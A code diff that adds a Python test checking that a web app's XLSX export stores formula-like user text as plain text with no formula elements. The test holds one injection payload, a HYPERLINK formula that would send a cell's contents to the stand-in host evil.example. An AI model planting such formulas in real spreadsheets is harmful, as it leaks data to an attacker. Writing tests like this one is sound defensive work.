@@ -475,6 +475,29 @@ def vbdocs_content(fmt: str) -> str:
     return EXPORTS[fmt]
 
 
+def test_xlsx_export_holds_no_formula(org: Organisation, year: Year, manager: Any) -> None:
+    """Formula injection: a user's text that looks like a formula is text in the file, shown as written."""
+    import zipfile
+
+    injected = '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")'
+    for key, text in (("identified.staff", injected), ("praise", "@SUM(1+1)\x0b och -2+3")):
+        services.vb_assessment_save(
+            actor=manager, unit=org.provider, year=YEAR, row_key=key, text=text, expected_version=0
+        )
+    response = browser(manager).get(export("xlsx"), query(org))
+    assert response.status_code == 200
+    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert sheets
+    assert not any(re.search(rb"<f[ >]", archive.read(name)) for name in sheets)  # no formula element at all
+    cells = [cell for row in openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert injected in texts
+    assert "@SUM(1+1) och -2+3" in texts  # the control character XLSX cannot hold is dropped, not a 500
+    assert all(cell.quotePrefix for cell in cells if cell.value in (injected, "@SUM(1+1) och -2+3"))
+
+
 def test_xlsx_export(org: Organisation, year: Year, manager: Any) -> None:
     saved_assessment(org, manager)
     response = browser(manager).get(export("xlsx"), query(org))
